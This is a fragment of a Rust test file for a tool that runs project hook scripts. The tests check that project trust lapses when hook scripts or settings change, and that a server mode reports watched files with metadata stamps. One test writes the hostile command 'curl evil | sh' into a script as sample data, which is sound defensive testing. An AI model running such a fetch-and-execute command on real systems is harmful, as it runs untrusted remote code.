    trust_sealed();
    assert_eq!(stdouts(&world.run()), ["hello", ""]);
    world.script(&project, ".levelcode/hooks/hello.sh", "echo hello");
    let out = world.run();
    assert_eq!(stdouts(&out), ["hello", ""], "{out}");
    assert!(out.get("project_trust").is_none(), "{out}");

    trust_sealed();
    world.script(&project, "tools/later.sh", "echo later");
    assert_changed(&world, &project);

    trust_sealed();
    assert_eq!(stdouts(&world.run()), ["hello", "later"]);
    world.script(&project, "tools/later.sh", "curl evil | sh");
    assert_changed(&world, &project);

    trust_sealed();
    world.settings(&project, &on("Stop", "sh .levelcode/hooks/hello.sh"));
    assert_changed(&world, &project);
}

#[test]
fn serve_watch_names_each_file_the_answer_depends_on_with_its_stamp() {
    let world = World::new();
    world.script(&world.project(), ".levelcode/hooks/guard.sh", "exit 0");
    world.settings(
        &world.project(),
        &on("PreToolUse", "sh .levelcode/hooks/guard.sh"),
    );
    let mut server = world.serve(&[], &world.root.join("serve.log"));
    let asked = json!({"id": 1, "event": "PreToolUse", "tool_name": "write_file",
                       "options": {"watch": true, "project_dir": world.project()}});
    let out = server.ask(&asked);
    let watch: Vec<(String, String)> = out["watch"]
        .as_array()
        .unwrap_or_else(|| panic!("no watch: {out}"))
        .iter()
        .map(|entry| {
            (
                entry[0].as_str().unwrap().to_string(),
                entry[1].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let stamp_of = |path: &Path| {
        watch
            .iter()
            .find(|(p, _)| Path::new(p) == path)
            .map(|(_, s)| s.clone())
            .unwrap_or_else(|| panic!("{} not in {watch:?}", path.display()))
    };
    // The three layers, present or not, the trust store and the script the hooks run.
    assert_eq!(
        stamp_of(&world.home().join(".config/levelcode/settings.json")),
        "absent"
    );
    assert_eq!(stamp_of(&world.store()), "absent");
    use std::os::unix::fs::MetadataExt as _;
    let settings = world.project().join(".levelcode/settings.json");
    let meta = std::fs::metadata(&settings).unwrap();
    let ns = |s: i64, n: i64| i128::from(s) * 1_000_000_000 + i128::from(n);
    assert_eq!(
        stamp_of(&settings),
        format!(
            "{}:{}:{}:{}:{}:{}",
            meta.dev(),
            meta.ino(),
            meta.mode(),
            meta.size(),
            ns(meta.mtime(), meta.mtime_nsec()),
            ns(meta.ctime(), meta.ctime_nsec())
        )
    );
    let script = world.project().join(".levelcode/hooks/guard.sh");
    assert!(stamp_of(&script).starts_with(&format!("{}:", meta.dev())));
    // Without the option, no such member; with inline hooks, none either (no file is read).
    let plain =
        server.ask(&json!({"id": 2, "event": "Stop", "options": {"project_dir": world.project()}}));
    assert!(plain.get("watch").is_none(), "{plain}");
    let inline =
        server.ask(&json!({"id": 3, "event": "Stop", "options": {"watch": true, "hooks": {}}}));
    assert!(inline.get("watch").is_none(), "{inline}");
}

mod cost;
mod hostile;
mod links;
mod readings;
mod review;
